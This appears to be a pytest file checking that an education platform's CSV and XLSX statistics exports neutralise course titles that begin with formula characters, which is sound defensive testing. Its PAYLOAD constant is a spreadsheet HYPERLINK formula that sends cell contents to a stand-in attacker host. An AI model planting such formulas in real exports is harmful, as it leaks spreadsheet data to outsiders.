"""An instructor-written course title must not become a formula in the ministry's
spreadsheet exports (CSV/XLSX formula injection)."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

from tests.conftest import PASSWORD

PAYLOAD = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def _course_with_formula_title(session, make_course):
    # An instructor sets the title in the studio (Length(max=200) only) or in course.toml.
    course = make_course("public")
    course.title = {"en": PAYLOAD, "ru": PAYLOAD, "kk": PAYLOAD}
    session.flush()
    return course


def _analyst_client(client, make_user):
    analyst = make_user(roles=["analyst"])
    client.post("/login", data={"email": analyst.email, "password": PASSWORD})
    return client


def test_xlsx_export_does_not_turn_a_course_title_into_a_formula(
    client, session, make_user, make_course
):
    _course_with_formula_title(session, make_course)
    response = _analyst_client(client, make_user).get("/stats/exports/course.xlsx?period=2026")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as book:
        sheets = b"".join(
            book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/")
        ).decode()
    formulas = re.findall(r"<f>(.*?)</f>", sheets)
    assert not formulas, f"the export holds spreadsheet formulas: {formulas}"


def test_csv_export_neutralises_a_course_title_starting_with_equals(
    client, session, make_user, make_course
):
    course = _course_with_formula_title(session, make_course)
    response = _analyst_client(client, make_user).get("/stats/exports/course.csv?period=2026")
    assert response.status_code == 200
    text = response.get_data(as_text=True).removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    row = next(r for r in rows[1:] if r[1] == str(course.id))
    labels = row[2:5]
    assert not any(label.startswith(("=", "+", "-", "@")) for label in labels), labels
    # The data package's description says so, in each language.
    package = _analyst_client(client, make_user).get("/stats/exports/course.zip?period=2026")
    with zipfile.ZipFile(io.BytesIO(package.data)) as archive:
        descriptor = json.loads(archive.read("datapackage.json"))
    for lang, word in (("en", "formula"), ("ru", "формул"), ("kk", "формула")):
        assert word in descriptor["descriptions"][lang] and "'" in descriptor["descriptions"][lang]
